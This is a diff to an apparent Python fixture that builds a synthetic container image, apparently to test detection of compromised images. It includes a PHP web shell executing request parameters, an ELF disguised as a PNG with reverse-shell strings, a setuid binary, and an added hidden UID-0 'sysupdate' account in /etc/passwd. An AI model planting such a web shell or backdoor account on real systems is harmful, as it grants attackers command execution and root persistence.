@@ -93,6 +93,9 @@ def demo_spec(integrity: bool = False) -> ImageSpec:
         Entry.file("/var/www/html/up.php", b"<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>\n"),
         Entry.file("/var/www/html/logo.png", _elf(b"\x00reverse\x00/bin/sh\x00")),
         Entry.file("/bin/ps", _elf(b"procps"), 0o4755),
+        Entry.dir("/etc"),
+        Entry.file("/etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n"
+                                  b"sysupdate:x:0:0:system update:/var/tmp:/bin/sh\n"),
         Entry.dir("/usr/bin"), Entry.file("/usr/bin/curl", _elf(b"curl 8.5.0 libcurl patched"), 0o755),
     ], created_by="/bin/sh -c #(nop) COPY dir:9a1f3 in / ", compression="none")
     return ImageSpec(
